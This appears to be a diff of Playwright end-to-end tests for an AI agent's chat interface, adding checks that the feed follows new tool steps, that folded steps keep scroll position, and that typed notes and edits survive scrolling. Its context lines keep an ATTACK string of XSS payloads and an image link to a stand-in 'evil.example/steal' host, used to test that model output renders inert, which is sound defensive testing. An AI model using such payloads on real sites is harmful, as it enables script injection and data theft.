@@ -13,6 +13,12 @@ from tests.e2e.staged import Stage, history, message
 ATTACK = """<script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">
 [click](javascript:alert(1)) ![pixel](https://evil.example/steal?x=1)"""
 
+HEIGHT_OF_STEPS = """() => {
+    const sheet = new CSSStyleSheet()
+    sheet.replaceSync('[role="article"] { height: 52px; overflow: hidden }')
+    document.adoptedStyleSheets.push(sheet)
+}"""
+
 
 def test_an_answer_of_a_model_is_inert(screen: Screen) -> None:
     wanted: list[str] = []
@@ -49,6 +55,40 @@ def test_the_feed_follows_its_end(screen: Screen) -> None:
         stage.tool(f"step {number}")
     expect(screen.feed.get_by_text("Paragraph 11 of")).to_be_in_viewport()
     screen.wait_at_end()
+
+
+def test_the_feed_follows_its_end_after_steps_folded_while_the_answer_grew(screen: Screen) -> None:
+    stage = Stage(screen, history(30))
+    stage.begin()
+    for number in range(5):
+        stage.tool(f"step {number}")
+    stage.say("The answer.\n\n")
+    expect(screen.feed.get_by_text("Clicked step 0")).to_be_visible()
+    screen.wait_at_end()
+    sixth = {"call_id": "step 5", "name": "click"}
+    stage.play(
+        stage.event("token", message_id="answer", text="First.\n\nSecond.\n\nThird.\n\n"),
+        stage.event("tool_start", **sixth, args={"element": 'button "step 5"'}),
+        stage.event("tool_end", **sixth, ok=True, summary="Clicked step 5", duration_ms=400),
+    )
+    expect(screen.feed.get_by_text("4 steps")).to_be_visible()
+    screen.wait_at_end()
+    for number in range(6, 9):
+        args = {"element": f'button "step {number}"'}
+        stage.play(stage.event("tool_start", call_id=f"step {number}", name="click", args=args))
+        expect(screen.feed.get_by_text(f"step {number}")).to_be_in_viewport()
+        screen.wait_at_end()
+
+
+def test_the_feed_follows_rows_that_are_as_high_as_was_guessed(screen: Screen) -> None:
+    stage = Stage(screen, history(30))
+    screen.page.evaluate(HEIGHT_OF_STEPS)
+    screen.wait_at_end()
+    stage.begin()
+    for number in range(3):
+        stage.tool(f"step {number}")
+        expect(screen.feed.get_by_text(f"step {number}")).to_be_in_viewport()
+        screen.wait_at_end()
 
 
 def test_who_scrolled_up_is_left_alone_and_can_jump_to_what_is_new(screen: Screen) -> None:
@@ -89,6 +129,34 @@ def test_a_session_opens_where_it_was_left(screen: Screen) -> None:
     screen.page.go_back()
     expect(screen.feed.get_by_text("Please look").first).to_be_visible()
     screen.page.wait_for_function(f"() => ({FIRST_ROW})() === {top}")
+
+
+def test_what_is_written_at_a_question_survives_scrolling_away(screen: Screen) -> None:
+    stage = Stage(screen, history(90))
+    stage.begin()
+    stage.play(
+        stage.event("interrupt", reference="r", kind="confirm", reason="pays", action={"kind": "click"})
+    )
+    card = screen.page.get_by_role("region", name="Allow this action?")
+    card.get_by_role("button", name="Deny with a note").click()
+    card.get_by_role("textbox").fill("look again")
+    go_home_and_back(screen)
+    expect(card.get_by_role("textbox")).to_have_value("look again")
+
+
+def test_what_is_being_edited_survives_scrolling_away_while_it_has_the_focus(screen: Screen) -> None:
+    Stage(screen, history(91))
+    screen.feed.get_by_text("Please look at page 91").hover()
+    screen.button("Edit").click()
+    editor = screen.page.get_by_role("textbox", name="Edit")
+    editor.fill("look at page 92")
+    screen.feed.hover()
+    screen.page.mouse.wheel(0, -90_000)
+    expect(screen.feed.get_by_text("Please look at page 1", exact=True)).to_be_in_viewport()
+    screen.wait_still()
+    expect(editor).to_be_focused()
+    screen.button("Latest").click()
+    expect(editor).to_have_value("look at page 92")
 
 
 def test_a_long_history_is_light(screen: Screen) -> None:
@@ -289,6 +357,15 @@ def scroll_up(screen: Screen) -> None:
     screen.page.mouse.wheel(0, -900)
     expect(screen.button("Latest")).to_be_visible()
     screen.wait_still()
+
+
+def go_home_and_back(screen: Screen) -> None:
+    screen.feed.focus()
+    screen.page.keyboard.press("Home")
+    expect(screen.feed.get_by_text("Please look at page 1", exact=True)).to_be_in_viewport()
+    screen.wait_still()
+    screen.page.keyboard.press("End")
+    screen.wait_at_end()
 
 
 def clipboard(page: Page) -> str:
